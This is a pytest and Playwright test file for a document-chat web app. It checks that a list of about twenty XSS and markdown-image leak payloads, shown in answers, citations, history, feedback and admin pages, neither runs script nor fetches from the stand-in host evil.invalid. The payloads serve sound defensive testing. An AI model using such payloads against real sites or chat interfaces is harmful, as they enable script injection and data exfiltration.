"""What runs scripts or fetches pictures elsewhere, as words of documents and readers, wherever they are shown."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Browser, expect

from index.types import Block, Document
from tests import web
from tests.chat_page import Service, serving, visiting
from tests.widget_page import reading

TOKEN = "a token of the operator"
PAYLOADS = (
    "<script>window.__xss=1</script>",
    "<img src=//evil.invalid/a.png onerror=window.__xss=2>",
    "<svg/onload=window.__xss=3><use href=//evil.invalid/b.svg#x>",
    "![leak](http://evil.invalid/c.png?q=secret)",
    "![leak][r] [r]: http://evil.invalid/d.png",
    '<iframe srcdoc="<script>parent.__xss=4</script>"></iframe>',
    "<audio src=//evil.invalid/e.mp3 autoplay><video poster=//evil.invalid/f.png>",
    "<style>*{background:url(//evil.invalid/g.png)}</style><link rel=stylesheet href=//evil.invalid/h.css>",
    "[go](javascript:window.__xss=5) <a href=javascript:window.__xss=6>go</a>",
    "<form action=//evil.invalid><button formaction=javascript:window.__xss=7>zebra</button></form>",
    "<details open ontoggle=window.__xss=8><base href=//evil.invalid/>",
    "<div style='position:fixed;inset:0;background:url(//evil.invalid/i.png)'>",
    "```mermaid graph TD; a[<img src=x onerror=window.__xss=9>] ```",
    "{{constructor.constructor('window.__xss=10')()}} ${window.__xss=11}",
    "&lt;img src=x onerror=window.__xss=12&gt; </textarea></title><meta http-equiv=refresh content=0;//evil.invalid>",
    # forms of garak's payloads for pages that leak and for scripts in HTML and Markdown:
    '<IMG """><SCRIPT>window.__xss=13</SCRIPT>"> <!--[if<img src=x onerror=window.__xss=14//]> -->',
    "\"`'><script>\u2002window.__xss=15</script><a href='\x0bjavascript:window.__xss=16'>zebra</a>",
    "[zebra](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTc8L3NjcmlwdD4=) <SCRIPT SRC=//evil.invalid/j>",
    '![Data](https://evil.invalid/?q=[INFO] "onerror="window.__xss=18) [Click here](https://evil.invalid/sales?q=[NUM])',
    '&lt;A HREF=\\"http&#58;//1113982867/\\"&gt;zebra&lt;/A&gt; <IMG SRC=javascript:window.__xss=19',
)
QUESTION = f"zebra {' '.join(PAYLOADS)}"


def document(number: int, payload: str) -> Document:
    """A document whose title and fields are one payload, whose only sentence is all of them, another one first."""
    text = f"The zebra says {' '.join(PAYLOADS[number:] + PAYLOADS[:number])} to all."
    facts = {"outlet": payload, "author": payload, "published": payload}
    blocks = (Block("paragraph", 0, len(text)),)
    return Document(f"{number:016}", f"{payload}.html", payload, text, blocks=blocks, metadata=facts)


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    pipeline = web.LexicalPipeline([document(*each) for each in enumerate(PAYLOADS)])
    home: Path = tmp_path_factory.mktemp("home")
    with serving(home, pipeline, admin_token=TOKEN, keep_gaps=True, examples=(), title=PAYLOADS[0]) as service:
        yield service


def test_nothing_runs_and_nobody_else_is_asked_wherever_they_are_shown(service: Service, browser: Browser) -> None:
    with visiting(browser, service.address) as visitor:
        visitor.ask(QUESTION)
        for number in range(visitor.citations.count()):
            visitor.citations.nth(number).hover()
            visitor.citations.nth(number).click()
            expect(visitor.mark).to_be_visible()
        visitor.button("Not helpful").last.click()
        message = (visitor.citations.first.get_attribute("href") or "")[len("#cite-") :].rpartition("-")[0]
        body = {"message_id": message, "value": "down", "reason": QUESTION[:1000]}
        cookies = {cookie["name"]: cookie["value"] for cookie in visitor.context.cookies()}
        assert httpx.post(f"{service.address}/api/feedback", json=body, cookies=cookies).is_success
        visitor.button("History").click()
        expect(visitor.page.locator("dialog[open]")).to_contain_text("<svg/onload")
        visitor.page.keyboard.press("Escape")
        visitor.button("Filter").click()
        expect(visitor.page.locator("dialog[open] option").nth(1)).to_contain_text("<")
    with reading(browser, f"{service.address}/admin") as reader:
        reader.page.get_by_label("Password or token").fill(TOKEN)
        reader.page.keyboard.press("Enter")
        for name in ("Documents", "Conversations", "Gaps", "Feedback", "Cases"):
            reader.page.get_by_role("link", name=name, exact=True).click()
            expect(reader.page.locator(f"nav a[aria-current]:text-is('{name}')")).to_be_visible()
            if name in ("Conversations", "Feedback"):
                expect(reader.page.locator("main")).to_contain_text("<svg/onload")
            assert reader.page.evaluate("window.__xss") is None
        assert reader.problems == []
